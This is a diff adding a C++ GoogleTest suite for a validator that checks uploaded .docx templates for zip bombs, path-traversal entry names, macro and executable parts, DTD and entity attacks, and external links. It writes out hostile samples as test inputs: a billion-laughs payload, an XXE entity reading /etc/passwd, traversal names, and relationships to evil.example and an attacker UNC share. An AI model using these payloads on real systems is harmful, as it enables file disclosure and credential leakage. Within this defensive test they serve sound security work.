@@ -1,0 +1,148 @@
+//! check_package: what an uploaded .docx must pass before it is stored — size, zip bombs, entry
+//! count, unsafe entry names, parts a DOCX may not hold, DTDs and entities, external links.
+#include <gtest/gtest.h>
+
+#include "template_fixtures.hpp"
+
+namespace vanthu::test {
+namespace {
+
+std::vector<std::string> codes(const std::vector<TemplateIssue>& issues) {
+  std::vector<std::string> out;
+  for (const auto& issue : issues) out.push_back(issue.code);
+  return out;
+}
+
+//! A zip holding exactly `entries` (name, content), deflated.
+std::string zip_of(const std::vector<std::pair<std::string, std::string>>& entries, int level = 6) {
+  std::string out;
+  ZipWriter writer(out);
+  for (const auto& [name, content] : entries) writer.add(name, content, level);
+  writer.finish();
+  return out;
+}
+
+//! The bytes of a zip with one stored entry whose name is written as given (bypassing ZipWriter's
+//! own checks), for names a hostile archive would use.
+std::string zip_with_raw_name(const std::string& name) {
+  std::string docx = zip_of({{"[Content_Types].xml", content_types_xml()}, {"_rels/.rels", package_rels_xml()},
+                             {"word/document.xml", document_xml(para("x"))}, {std::string(name.size(), 'A'), "evil"}});
+  // Replace the placeholder name in the local header and the central directory.
+  std::string placeholder(name.size(), 'A');
+  for (std::size_t at = docx.find(placeholder); at != std::string::npos; at = docx.find(placeholder, at + name.size()))
+    docx.replace(at, name.size(), name);
+  return docx;
+}
+
+TEST(TemplatePackage, AGoodPackagePasses) {
+  EXPECT_TRUE(check_package(make_docx(para("{a}"))).empty());
+  std::string with_media = make_docx(para("x"), {{"word/media/image1.png", "\x89PNG...."},
+                                                 {"docProps/core.xml", "<cp:coreProperties xmlns:cp=\"x\"/>"},
+                                                 {"word/theme/theme1.xml", "<a:theme xmlns:a=\"x\"/>"},
+                                                 {"customXml/item1.xml", "<b/>"}});
+  EXPECT_TRUE(check_package(with_media).empty()) << check_package(with_media)[0].message;
+}
+
+TEST(TemplatePackage, TooLarge) {
+  PackageLimits limits;
+  limits.max_size = 100;
+  EXPECT_EQ(codes(check_package(make_docx(para("x")), limits)), std::vector<std::string>{"too_large"});
+}
+
+TEST(TemplatePackage, ZipBombIsRefused) {
+  std::string bomb = make_docx(para("x"), {{"word/media/bomb.png", std::string(8u << 20, '\0')}});
+  auto issues = check_package(bomb);
+  ASSERT_FALSE(issues.empty());
+  EXPECT_EQ(issues[0].code, "zip_bomb") << issues[0].message;
+  EXPECT_NE(issues[0].message.find("bom zip"), std::string::npos);
+  TemplateCheck check = check_template(bomb);
+  EXPECT_EQ(codes(check.issues), std::vector<std::string>{"zip_bomb"}) << "nothing more is read from it";
+}
+
+TEST(TemplatePackage, TooManyEntries) {
+  std::vector<std::pair<std::string, std::string>> extra;
+  for (int i = 0; i < 20; ++i) extra.emplace_back("word/media/image" + std::to_string(i) + ".png", "x");
+  PackageLimits limits;
+  limits.zip.max_entries = 10;
+  auto issues = check_package(make_docx(para("x"), extra), limits);
+  ASSERT_EQ(codes(issues), std::vector<std::string>{"too_many_entries"});
+  EXPECT_NE(issues[0].message.find("23"), std::string::npos) << issues[0].message;
+}
+
+TEST(TemplatePackage, PathTraversalInEntryNames) {
+  for (const std::string name : {"../../etc/cron.d/x", "/etc/passwd", "word\\..\\x.xml", "word/../../x.xml"}) {
+    auto issues = check_package(zip_with_raw_name(name));
+    ASSERT_EQ(codes(issues), std::vector<std::string>{"unsafe_name"}) << name;
+    EXPECT_NE(issues[0].message.find("không an toàn"), std::string::npos) << issues[0].message;
+  }
+}
+
+TEST(TemplatePackage, OnlyPartsADocxMayHold) {
+  std::string docx = make_docx(para("x"), {{"word/vbaProject.bin", "macro"},
+                                           {"payload.exe", "MZ"},
+                                           {"word/embeddings/oleObject1.bin", "ole"},
+                                           {"word/activeX/activeX1.xml", "<x/>"},
+                                           {"notes.txt", "hello"},
+                                           {"word/media/script.js", "alert(1)"}});
+  auto issues = check_package(docx);
+  EXPECT_EQ(codes(issues),
+            (std::vector<std::string>{"macro", "macro", "macro", "macro", "part_not_allowed", "part_not_allowed"}));
+  EXPECT_EQ(issues[4].part, "notes.txt");
+}
+
+TEST(TemplatePackage, MacroEnabledContentType) {
+  std::string types = std::string(content_types_xml());
+  types.replace(types.find("wordprocessingml.document.main+xml"), 34, "ms-word.document.macroEnabled.main+xml");
+  std::string docx = zip_of({{"[Content_Types].xml", types}, {"_rels/.rels", package_rels_xml()},
+                             {"word/document.xml", document_xml(para("x"))}});
+  EXPECT_EQ(codes(check_package(docx)), std::vector<std::string>{"macro"});
+}
+
+TEST(TemplatePackage, DtdAndEntitiesInAnyXmlPart) {
+  std::string billion_laughs =
+      "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]>"
+      "<Properties>&lol2;</Properties>";
+  std::string xxe = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
+  std::string docx = make_docx(para("x"), {{"docProps/app.xml", billion_laughs}, {"word/settings.xml", xxe},
+                                           {"word/styles.xml", "<w:styles"}});
+  auto issues = check_package(docx);
+  EXPECT_EQ(codes(issues), (std::vector<std::string>{"dtd", "dtd", "xml"}));
+  EXPECT_EQ(issues[0].part, "docProps/app.xml");
+  EXPECT_EQ(issues[2].part, "word/styles.xml");
+}
+
+TEST(TemplatePackage, ExternalRelationshipsButHyperlinks) {
+  std::string rels =
+      R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
+      R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>)"
+      R"(<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>)"
+      R"(<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\attacker\share\a.png" TargetMode="External"/>)"
+      R"(</Relationships>)";
+  auto issues = check_package(make_docx(para("x"), {{"word/_rels/settings.xml.rels", rels}}));
+  ASSERT_EQ(codes(issues), (std::vector<std::string>{"external_relationship", "external_relationship"}));
+  EXPECT_NE(issues[0].message.find("evil.example"), std::string::npos);
+}
+
+TEST(TemplatePackage, SkeletonPartsMustBeThere) {
+  std::string docx = zip_of({{"word/document.xml", document_xml(para("x"))}});
+  EXPECT_EQ(codes(check_package(docx)), (std::vector<std::string>{"missing_part", "missing_part"}));
+  EXPECT_EQ(codes(check_package(zip_of({{"[Content_Types].xml", content_types_xml()}, {"_rels/.rels", package_rels_xml()}}))),
+            std::vector<std::string>{"not_docx"});
+  EXPECT_EQ(codes(check_package("not a zip at all")), std::vector<std::string>{"zip"});
+}
+
+TEST(TemplatePackage, CheckTemplateReportsPackageAndTagIssuesTogether) {
+  std::string docx = make_docx(para("{#a}"), {{"notes.txt", "x"}});
+  TemplateCheck check = check_template(docx);
+  EXPECT_EQ(codes(check.issues), (std::vector<std::string>{"part_not_allowed", "unclosed_section"}));
+  EXPECT_FALSE(check.parsed);
+}
+
+TEST(TemplatePackage, XmlIssueOfATemplatedPartIsReportedOnce) {
+  std::string docx = make_package("<w:document xmlns:w=\"x\"><w:body>");
+  auto issues = check_template(docx).issues;
+  EXPECT_EQ(codes(issues), std::vector<std::string>{"xml"});
+}
+
+}  // namespace
+}  // namespace vanthu::test
